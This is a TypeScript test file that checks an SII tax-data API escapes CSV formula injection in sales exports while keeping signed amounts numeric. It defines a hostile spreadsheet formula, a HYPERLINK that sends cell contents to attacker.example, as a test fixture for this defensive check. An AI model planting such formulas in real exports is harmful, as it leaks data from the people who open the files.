// CSV answers are guarded against formula injection (OWASP "CSV Injection"): a counterpart's name
// the SII's register carries as `=HYPERLINK(...)` comes back as text (`'=HYPERLINK(...)`), while
// negative and signed amounts stay numbers. The sandbox's register has no such names, so its
// export answer is rewritten on the way, as a hostile supplier's name would reach the SII.
import { describe, expect, it } from "vitest";
import { decodeLatin1 } from "../../src/lib/latin1.ts";
import type { SiiTransport } from "../../src/ports/transport.ts";
import { sandboxTransport } from "../../src/sandbox/transport.ts";
import { postJson, probeApp, tokenFor } from "../support/app.ts";

const company = { auth: { pass: { rut: "76192083-9", clave: "sandbox76" } } };
const HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"Ver")';

/** The sandbox, with the first document line of the sales export carrying a hostile name and signed amounts. */
function hostileExport(): SiiTransport {
  const inner = sandboxTransport();
  return {
    ...inner,
    async fetch(request, options) {
      const res = await inner.fetch(request, options);
      if (!request.url.endsWith("/getDetalleVentaExport")) return res;
      const answer = (await res.json()) as { data: string[] };
      const header = answer.data[0]?.split(";") ?? [];
      const cells = answer.data[1]?.split(";") ?? [];
      cells[header.indexOf("Razon Social")] = HOSTILE;
      cells[header.indexOf("Monto Exento")] = "-1500";
      cells[header.indexOf("Monto Neto")] = "+5";
      cells[header.indexOf("Monto IVA")] = "-12,5";
      cells[header.indexOf("Monto total")] = "@SUM(A1:A9)";
      answer.data[1] = cells.join(";");
      return new Response(JSON.stringify(answer), { status: res.status, headers: res.headers });
    },
  };
}

describe("CSV answers and formula injection", () => {
  it("RCV detail as CSV: a name starting with = comes back as text, negative amounts stay numbers", async () => {
    const t = probeApp();
    t.deps.sii = hostileExport();
    t.deps.clock = { now: () => new Date("2026-11-22T15:00:00Z") };
    const token = await tokenFor(t.deps, { scopes: ["sii:read"] });
    const res = await postJson(t.app, token.secret, "/api/v1/sii/rcv/ventas/detalle/76192083-9/202401/33?formato=csv", company);
    expect(res.status).toBe(200);
    const lines = decodeLatin1(new Uint8Array(await res.arrayBuffer())).split("\n");
    const header = lines[0]?.split(";") ?? [];
    const row = lines[1]?.split(";") ?? [];
    const at = (name: string) => row[header.indexOf(name)];
    expect(at("Razon Social")).toBe(`'${HOSTILE}`);
    expect([at("Monto Exento"), at("Monto Neto"), at("Monto IVA")]).toEqual(["-1500", "+5", "-12,5"]);
    expect(at("Monto total")).toBe("'@SUM(A1:A9)");
    // Every other line is the SII's as it was: no cell of the sandbox's starts a formula.
    expect(lines.slice(2).join("\n")).not.toContain("'");
  });
});
